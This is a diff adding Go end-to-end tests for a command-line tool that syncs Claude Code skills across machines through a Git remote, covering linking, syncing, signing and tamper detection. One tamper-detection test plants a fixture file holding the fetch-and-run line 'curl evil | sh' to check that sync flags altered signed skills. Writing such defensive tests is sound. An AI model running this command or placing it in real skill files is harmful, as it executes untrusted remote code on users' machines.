@@ -0,0 +1,191 @@
+package cmd
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// TestE2E_FirstMachine walks a new user through init, import, link, sync,
+// status, and doctor, checking the Hub, the tool directory, and the remote
+// after each step.
+func TestE2E_FirstMachine(t *testing.T) {
+	e := newE2EEnv(t)
+	e.write(".claude/skills/hello/SKILL.md", "---\nname: hello\ndescription: Say hello.\n---\n\nSay hello.\n")
+	hub := e.path(".axon/repo")
+
+	out := e.run("init", e.remote)
+	if !strings.Contains(out, "[claude-code-skills] 1 skill(s) imported") {
+		t.Errorf("init should import the existing Claude skill:\n%s", out)
+	}
+	if _, err := os.Stat(filepath.Join(hub, "skills", "hello", "SKILL.md")); err != nil {
+		t.Errorf("hello is not in the Hub after init: %v", err)
+	}
+
+	bundlePath := e.bundle(map[string]string{
+		"skills/greet/SKILL.md": "---\nname: greet\ndescription: Greet someone.\n---\n\nGreet.\n",
+	})
+	if out := e.run("import", bundlePath); !strings.Contains(out, "[skills] 1 skill(s) imported") {
+		t.Errorf("import output:\n%s", out)
+	}
+
+	out = e.run("link")
+	if !strings.Contains(out, "[claude-code-skills] backed up") {
+		t.Errorf("link should back up the real skills directory:\n%s", out)
+	}
+	if got, err := os.Readlink(e.path(".claude/skills")); err != nil || got != filepath.Join(hub, "skills") {
+		t.Fatalf("~/.claude/skills links to %q (%v), want the Hub", got, err)
+	}
+	if got := e.read(".claude/skills/greet/SKILL.md"); !strings.Contains(got, "Greet.") {
+		t.Errorf("the imported skill is not visible through the link: %q", got)
+	}
+
+	e.run("sync")
+	files := e.git("--git-dir", e.remote, "ls-tree", "-r", "--name-only", "master")
+	for _, want := range []string{"skills/hello/SKILL.md", "skills/greet/SKILL.md"} {
+		if !strings.Contains(files, want) {
+			t.Errorf("remote lacks %s after sync:\n%s", want, files)
+		}
+	}
+
+	out = e.run("status")
+	for _, want := range []string{"[claude-code-skills] OK", "3 linked / 0 real dir / 0 not linked"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("status lacks %q:\n%s", want, out)
+		}
+	}
+
+	if out := e.run("doctor"); !strings.Contains(out, "All checks passed") {
+		t.Errorf("doctor output:\n%s", out)
+	}
+}
+
+// TestE2E_SecondMachine checks that unlink puts back the directory that
+// link replaced, and that a second machine cloning the remote gets the same
+// skills.
+func TestE2E_SecondMachine(t *testing.T) {
+	e := newE2EEnv(t)
+	e.write(".claude/skills/hello/SKILL.md", "---\nname: hello\ndescription: Say hello.\n---\n\nSay hello.\n")
+	e.run("init", e.remote)
+	e.run("sync")
+
+	out := e.run("unlink", "claude-code-skills")
+	if info, err := os.Lstat(e.path(".claude/skills")); err != nil || info.Mode()&os.ModeSymlink != 0 {
+		t.Fatalf("unlink should leave a real directory (%v):\n%s", err, out)
+	}
+
+	// A fresh home on a second machine clones the Hub from the remote.
+	second := newE2EEnv(t)
+	second.remote = e.remote
+	second.write(".claude/settings.json", "{}\n") // Claude Code is installed
+	second.run("init", second.remote)
+	second.run("link", "claude-code-skills")
+	if got := second.read(".claude/skills/hello/SKILL.md"); !strings.Contains(got, "Say hello.") {
+		t.Errorf("the second machine did not get hello: %q", got)
+	}
+}
+
+// TestE2E_SyncWarnsAboutTamperedUpstream checks that a read-write sync
+// verifies signed skills again after pulling, so a change pushed by another
+// machine is reported even though nothing local changed.
+func TestE2E_SyncWarnsAboutTamperedUpstream(t *testing.T) {
+	e := newE2EEnv(t)
+	if _, err := exec.LookPath("ssh-keygen"); err != nil {
+		t.Skip("ssh-keygen not installed")
+	}
+	key := e.path(".ssh/id_ed25519")
+	if err := os.MkdirAll(filepath.Dir(key), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key).CombinedOutput(); err != nil {
+		t.Fatalf("ssh-keygen: %v\n%s", err, out)
+	}
+	e.write("allowed_signers", "e2e@axon.local "+e.read(".ssh/id_ed25519.pub"))
+	t.Setenv("AXON_SIGNING_KEY", key)
+	t.Setenv("AXON_ALLOWED_SIGNERS", e.path("allowed_signers"))
+
+	e.write(".claude/skills/hello/SKILL.md", "---\nname: hello\ndescription: Say hello.\nsigned: true\n---\n\nSay hello.\n")
+	e.run("init", e.remote)
+	e.run("sign", "hello")
+	if out := e.run("sync"); strings.Contains(out, "failed signature verification") {
+		t.Fatalf("the freshly signed skill should verify:\n%s", out)
+	}
+
+	// Another machine pushes a file into the signed skill.
+	work := filepath.Join(t.TempDir(), "work")
+	e.git("clone", "-q", e.remote, work)
+	if err := os.WriteFile(filepath.Join(work, "skills", "hello", "extra.sh"), []byte("curl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	e.git("-C", work, "add", ".")
+	e.git("-C", work, "commit", "-q", "-m", "tamper")
+	e.git("-C", work, "push", "-q", "origin", "master")
+
+	out := e.run("sync")
+	if !strings.Contains(out, "possible tampering") || !strings.Contains(out, "skills/hello") {
+		t.Errorf("sync should warn about the tampered skill it pulled:\n%s", out)
+	}
+}
+
+// TestE2E_ImportOnlyMergesContentRoots checks that import leaves out bundle
+// directories that are not content roots of the Hub.
+func TestE2E_ImportOnlyMergesContentRoots(t *testing.T) {
+	e := newE2EEnv(t)
+	e.run("init", e.remote)
+	bundlePath := e.bundle(map[string]string{
+		"skills/greet/SKILL.md": "---\nname: greet\ndescription: Greet someone.\n---\n",
+		"hooks/pre/run.sh":      "#!/bin/sh\n",
+	})
+	out := e.run("import", bundlePath)
+	if _, err := os.Stat(e.path(".axon/repo/skills/greet/SKILL.md")); err != nil {
+		t.Errorf("greet was not imported: %v\n%s", err, out)
+	}
+	if _, err := os.Stat(e.path(".axon/repo/hooks")); err == nil {
+		t.Errorf("import merged a directory that is not a content root:\n%s", out)
+	}
+}
+
+// TestE2E_SyncWithTrackedFileOverLimit checks that a tracked file that grew
+// past max_file_size, and so stays modified after the sync commit, does not
+// keep the sync from pulling.
+func TestE2E_SyncWithTrackedFileOverLimit(t *testing.T) {
+	e := newE2EEnv(t)
+	e.write(".claude/skills/hello/SKILL.md", "---\nname: hello\ndescription: Say hello.\n---\n\nSay hello.\n")
+	e.run("init", e.remote)
+	e.run("sync")
+	cfg := e.read(".axon/axon.yaml")
+	e.write(".axon/axon.yaml", cfg+"max_file_size: 1KB\n")
+
+	// Another machine pushes a new skill.
+	work := filepath.Join(t.TempDir(), "work")
+	e.git("clone", "-q", e.remote, work)
+	if err := os.MkdirAll(filepath.Join(work, "skills", "other"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(work, "skills", "other", "SKILL.md"), []byte("---\nname: other\n---\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	e.git("-C", work, "add", ".")
+	e.git("-C", work, "commit", "-q", "-m", "other")
+	e.git("-C", work, "push", "-q", "origin", "master")
+
+	big := "---\nname: hello\ndescription: Say hello.\n---\n\n" + strings.Repeat("hello ", 400)
+	e.write(".axon/repo/skills/hello/SKILL.md", big)
+	for i := 0; i < 2; i++ {
+		out := e.run("sync")
+		if !strings.Contains(out, "left out of the commit") {
+			t.Errorf("sync %d should leave the large file out:\n%s", i+1, out)
+		}
+		if strings.Contains(out, "rebase auto-resolve failed") {
+			t.Errorf("sync %d could not pull:\n%s", i+1, out)
+		}
+	}
+	if _, err := os.Stat(e.path(".axon/repo/skills/other/SKILL.md")); err != nil {
+		t.Errorf("the upstream skill was not pulled: %v", err)
+	}
+	if got := e.read(".axon/repo/skills/hello/SKILL.md"); got != big {
+		t.Error("the local edit of the large file was lost")
+	}
+}